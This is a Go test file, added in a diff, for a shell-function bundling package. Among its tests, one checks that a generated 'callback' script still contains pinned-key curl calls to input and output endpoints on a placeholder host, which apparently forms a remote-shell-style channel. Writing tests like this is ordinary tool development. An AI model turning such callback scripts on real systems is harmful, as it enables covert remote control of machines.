@@ -0,0 +1,207 @@
+package shellfuncsfile
+
+/*
+ * format_test.go
+ * Tests for format.go
+ * By J. Stuart McMurray
+ * Created 20261016
+ * Last Modified 20261016
+ */
+
+import (
+	"bytes"
+	"encoding/base64"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"text/template"
+)
+
+// formatTestFunctions are functions with which to test format.go.
+const formatTestFunctions = `# TABDOC: hello Says hello
+hello() { echo "Hello, ${1:-World}"; }
+
+# TABDOC: bye Says bye
+bye() {
+	echo "Bye, $*"
+}
+`
+
+// mustHaveShellTools skips the test if we don't have /bin/sh or base64.
+func mustHaveShellTools(t *testing.T) {
+	t.Helper()
+	for _, p := range []string{"/bin/sh", "base64"} {
+		if _, err := exec.LookPath(p); nil != err {
+			t.Skipf("Need %s: %s", p, err)
+		}
+	}
+}
+
+func TestOneLiner(t *testing.T) {
+	mustHaveShellTools(t)
+	ol := OneLiner([]byte(formatTestFunctions))
+	if n := bytes.Count(ol, []byte("\n")); 1 != n {
+		t.Errorf("One-liner has %d newlines", n)
+	}
+	got, err := exec.Command(
+		"/bin/sh",
+		"-c",
+		string(ol)+"hello kittens",
+	).CombinedOutput()
+	if nil != err {
+		t.Fatalf("Error running one-liner: %s\n%s", err, got)
+	}
+	if want := "Hello, kittens\n"; string(got) != want {
+		t.Errorf("Incorrect output:\n got: %q\nwant: %q", got, want)
+	}
+}
+
+func TestScript(t *testing.T) {
+	mustHaveShellTools(t)
+	b, err := Script([]byte(formatTestFunctions))
+	if nil != err {
+		t.Fatalf("Error: %s", err)
+	}
+	fn := filepath.Join(t.TempDir(), "bundle.sh")
+	if err := os.WriteFile(fn, b, 0700); nil != err {
+		t.Fatalf("Error writing script: %s", err)
+	}
+	for _, c := range []struct {
+		args    []string
+		want    string
+		wantErr bool
+	}{{
+		args: []string{"hello"},
+		want: "Hello, World\n",
+	}, {
+		args: []string{"bye", "a", "b"},
+		want: "Bye, a b\n",
+	}, {
+		wantErr: true,
+		want: "Usage: " + fn + " function [argument...]\n" +
+			"Functions: bye hello\n",
+	}, {
+		args:    []string{"nope"},
+		wantErr: true,
+		want: "Usage: " + fn + " function [argument...]\n" +
+			"Functions: bye hello\n",
+	}} {
+		got, err := exec.Command(fn, c.args...).CombinedOutput()
+		if gotErr := nil != err; gotErr != c.wantErr {
+			t.Errorf(
+				"Incorrect error for %q: %v\n%s",
+				c.args,
+				err,
+				got,
+			)
+		}
+		if string(got) != c.want {
+			t.Errorf(
+				"Incorrect output for %q:\n got: %q\nwant: %q",
+				c.args,
+				got,
+				c.want,
+			)
+		}
+	}
+}
+
+func TestScript_NoFunctions(t *testing.T) {
+	if _, err := Script([]byte("echo foo\n")); nil == err {
+		t.Errorf("No error for script with no functions")
+	}
+}
+
+func TestCallbackTemplate(t *testing.T) {
+	have := []byte(strings.Repeat(formatTestFunctions, 10))
+	tmpl, err := template.New("").Parse(string(CallbackTemplate(have)))
+	if nil != err {
+		t.Fatalf("Error parsing template: %s", err)
+	}
+	var sb strings.Builder
+	if err := tmpl.Execute(&sb, struct {
+		PubkeyFP string
+		URL      string
+		ID       string
+	}{"fp", "example.com", "id"}); nil != err {
+		t.Fatalf("Error executing template: %s", err)
+	}
+	script := sb.String()
+
+	/* Make sure it still calls back. */
+	curl := `curl -Nsk --pinnedpubkey "sha256//fp" https://example.com`
+	for _, want := range []string{curl + "/i/id", curl + "/o/id"} {
+		if !strings.Contains(script, want) {
+			t.Errorf("Script missing %q:\n%s", want, script)
+		}
+	}
+
+	/* Make sure we get the functions back. */
+	_, enc, ok := strings.Cut(script, "<<'"+heredocDelim+"'\n")
+	if !ok {
+		t.Fatalf("Missing here-document start:\n%s", script)
+	}
+	enc, _, ok = strings.Cut(enc, "\n"+heredocDelim+"\n")
+	if !ok {
+		t.Fatalf("Missing here-document end:\n%s", script)
+	}
+	for _, l := range strings.Split(enc, "\n") {
+		if base64LineLen < len(l) {
+			t.Errorf("Base64 line too long (%d): %s", len(l), l)
+		}
+	}
+	got, err := base64.StdEncoding.DecodeString(
+		strings.ReplaceAll(enc, "\n", ""),
+	)
+	if nil != err {
+		t.Fatalf("Error decoding functions: %s", err)
+	}
+	if !bytes.Equal(got, have) {
+		t.Errorf("Incorrect functions:\n got: %s\nwant: %s", got, have)
+	}
+
+	/* And that it at least parses. */
+	if _, err := exec.LookPath("/bin/sh"); nil != err {
+		return
+	}
+	if out, err := exec.Command(
+		"/bin/sh",
+		"-n",
+		"-c",
+		script,
+	).CombinedOutput(); nil != err {
+		t.Errorf("Script doesn't parse: %s\n%s", err, out)
+	}
+}
+
+func TestNewManifest(t *testing.T) {
+	fs := SplitFunctions([]byte(formatTestFunctions))
+	want := Manifest{
+		Size:   len(formatTestFunctions),
+		SHA256: sha256Hex([]byte(formatTestFunctions)),
+		Functions: []ManifestFunction{{
+			Name:   "hello",
+			Doc:    "Says hello",
+			Size:   len(fs[0].Code),
+			SHA256: sha256Hex(fs[0].Code),
+		}, {
+			Name:   "bye",
+			Doc:    "Says bye",
+			Size:   len(fs[1].Code),
+			SHA256: sha256Hex(fs[1].Code),
+		}},
+	}
+	got := NewManifest([]byte(formatTestFunctions))
+	if got.Size != want.Size ||
+		got.SHA256 != want.SHA256 ||
+		!slices.Equal(got.Functions, want.Functions) {
+		t.Errorf(
+			"Incorrect manifest:\n got: %+v\nwant: %+v",
+			got,
+			want,
+		)
+	}
+}